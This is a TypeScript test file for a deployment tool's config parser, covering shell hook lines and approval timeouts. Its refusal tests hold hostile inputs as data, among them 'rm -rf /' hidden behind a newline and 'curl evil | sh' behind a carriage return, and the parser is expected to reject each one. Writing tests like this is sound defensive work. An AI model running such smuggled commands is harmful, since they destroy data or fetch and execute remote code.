import { parseConfig } from '../../lambdas/shared/config';

const validTarget = {
  name: 'web',
  allocationId: 'eipalloc-0123456789abcdef0',
  domain: 'www.example.com',
  image: { imageId: 'ami-0123456789abcdef0' },
  tls: { mode: 'none' },
};

const withTarget = (extra: Record<string, unknown>) => ({ targets: [{ ...validTarget, ...extra }] });

/** The error message parseConfig throws, or '' when the config is accepted. */
const refusal = (extra: Record<string, unknown>): string => {
  try {
    parseConfig(withTarget(extra));
    return '';
  } catch (error) {
    return error instanceof Error ? error.message : String(error);
  }
};

describe('hooks in the target config', () => {
  test('accepts operator shell lines as given, quotes and pipes included', () => {
    const lines = [
      `systemctl stop 'queue-worker@*' && crontab -r || true`,
      'pkill -f "sidekiq" | tee -a /var/log/x',
    ];
    const config = parseConfig(
      withTarget({ hooks: { beforeSwitch: { newBox: ['true'] }, afterSwitch: { oldBox: lines } } }),
    );
    expect(config.targets[0]?.hooks?.afterSwitch?.oldBox).toEqual(lines);
    expect(config.targets[0]?.hooks?.beforeSwitch?.newBox).toEqual(['true']);
  });

  test.each([
    [
      'a newline that would hide a second command',
      'systemctl stop worker\nrm -rf /',
      'hooks.afterSwitch.oldBox[0]',
    ],
    ['a NUL byte', 'echo a\u0000b', 'hooks.afterSwitch.oldBox[0]'],
    ['a carriage return', 'echo ok\rcurl evil | sh', 'hooks.afterSwitch.oldBox[0]'],
    [
      'an escape sequence that could hide text on a terminal',
      'echo \u001b[8mhidden',
      'hooks.afterSwitch.oldBox[0]',
    ],
    ['an empty line', '', 'hooks.afterSwitch.oldBox[0]'],
    ['a line over 1024 characters', `echo ${'x'.repeat(1100)}`, 'hooks.afterSwitch.oldBox[0]'],
  ])('refuses %s, naming the field', (_what, line, field) => {
    const message = refusal({ hooks: { afterSwitch: { oldBox: [line] } } });
    expect(message).toContain(`targets[0].${field}`);
  });

  test('refuses more than 20 lines for one box, and an afterSwitch with no box', () => {
    const many = Array.from({ length: 21 }, (_, i) => `echo ${i}`);
    expect(refusal({ hooks: { beforeSwitch: { newBox: many } } })).toContain(
      'targets[0].hooks.beforeSwitch.newBox',
    );
    expect(refusal({ hooks: { afterSwitch: {} } })).toMatch(
      /targets\[0\]\.hooks\.afterSwitch: give oldBox or newBox/,
    );
  });

  test('refuses a hook point the workflow does not run, such as beforeSwitch on the old box', () => {
    expect(refusal({ hooks: { beforeSwitch: { oldBox: ['true'] } } })).toContain(
      'targets[0].hooks.beforeSwitch',
    );
  });
});

describe('approval in the target config', () => {
  test('defaults the timeout to an hour', () => {
    const config = parseConfig(withTarget({ approval: { required: true } }));
    expect(config.targets[0]?.approval).toEqual({ required: true, timeoutSeconds: 3_600 });
  });

  test('refuses a timeout under a minute or beyond six hours (the execution itself ends at twelve), naming the field', () => {
    expect(refusal({ approval: { required: true, timeoutSeconds: 30 } })).toContain(
      'targets[0].approval.timeoutSeconds',
    );
    expect(refusal({ approval: { required: true, timeoutSeconds: 43_200 } })).toContain(
      'targets[0].approval.timeoutSeconds',
    );
  });
});
